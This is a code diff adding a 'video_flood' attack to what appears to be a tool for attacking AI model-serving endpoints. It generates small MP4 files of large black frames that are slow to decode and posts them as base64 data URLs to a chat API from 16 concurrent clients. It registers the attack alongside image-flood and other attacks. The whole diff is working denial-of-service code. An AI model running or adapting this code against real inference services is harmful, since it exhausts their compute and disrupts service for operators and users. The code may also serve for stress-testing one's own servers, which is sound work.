@@ -319,7 +319,30 @@ def jpeg_scans(target: Target) -> list[int]:
     return at_once(target, 8, lambda number: post(target, CHAT, bodies[number % 2]))
 
 
-IMAGE_ATTACKS = {"png_flood": png_flood, "jpeg_scans": jpeg_scans}
+def film(side: int, frames: int) -> bytes:
+    """Return an MP4 file with black frames: few bytes, and long to decode. Needs PyAV."""
+    import av
+
+    file = io.BytesIO()
+    with av.open(file, "w", format="mp4") as output:
+        stream = output.add_stream("mpeg4", rate=30)
+        stream.width = stream.height = side
+        stream.pix_fmt = "yuv420p"
+        for _ in range(frames):
+            output.mux(stream.encode(av.VideoFrame(side, side, "yuv420p")))
+        output.mux(stream.encode())
+    return file.getvalue()
+
+
+def video_flood(target: Target) -> list[int]:
+    """16 clients with videos of 120 frames of 2048 x 2048. Models without videos refuse them at once."""
+    url = f"data:video/mp4;base64,{base64.b64encode(film(2048, 120)).decode()}"
+    content = [{"type": "video_url", "video_url": {"url": url}}]
+    body = encoded(target, messages=[{"role": "user", "content": content}], max_tokens=1)
+    return at_once(target, target.times(16), lambda _: post(target, CHAT, body))
+
+
+IMAGE_ATTACKS = {"png_flood": png_flood, "jpeg_scans": jpeg_scans, "video_flood": video_flood}
 """Attacks on a model with image input. Other models refuse them at once."""
 ATTACKS: dict[str, Callable[[Target], list[int]]] = {
     "bad_words": bad_words,
